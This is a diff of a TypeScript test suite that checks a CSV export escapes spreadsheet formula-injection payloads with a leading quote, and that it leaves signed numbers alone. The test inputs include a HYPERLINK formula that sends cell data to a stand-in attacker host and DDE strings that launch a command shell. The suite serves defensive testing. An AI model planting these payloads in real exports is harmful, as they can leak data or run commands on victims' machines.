@@ -68,7 +68,7 @@ describe('the CSV of movements', () => {
     const titled = (title: string) => ticketOne.map((e) => (e.type === 'TicketOpened' ? { ...e, data: { ...(e.data as Record<string, unknown>), title } } : e));
     const cellOf = (title: string) => rows(renderCsv(issued([titled(title), ticketTwo, ticketThree]))).find((r) => r[6] === '#1041')![7]!;
 
-    for (const title of ['=HYPERLINK("https://evil.example/?x="&A1,"Abrir")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd', '\t=1+1']) {
+    for (const title of ['=HYPERLINK("https://evil.example/?x="&A1,"Abrir")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1']) {
       it(`neutralises ${JSON.stringify(title.slice(0, 12))}… with a leading quote`, () => {
         const cell = cellOf(title);
         expect(cell.replace(/^"/, '').startsWith("'"), cell).to.equal(true);
@@ -76,8 +76,9 @@ describe('the CSV of movements', () => {
       });
     }
 
-    it('leaves signed numbers alone', () => {
+    it('leaves signed numbers alone, not text after a sign', () => {
       expect(table().find((r) => r[2] === 'Ajuste negativo')!.slice(9, 11)).to.deep.equal(['-45', '-0:45']);
+      expect([cellOf('-20'), cellOf('+5,5'), cellOf('-20 minutos')]).to.deep.equal(['-20', '+5,5', "'-20 minutos"]);
     });
   });
 });
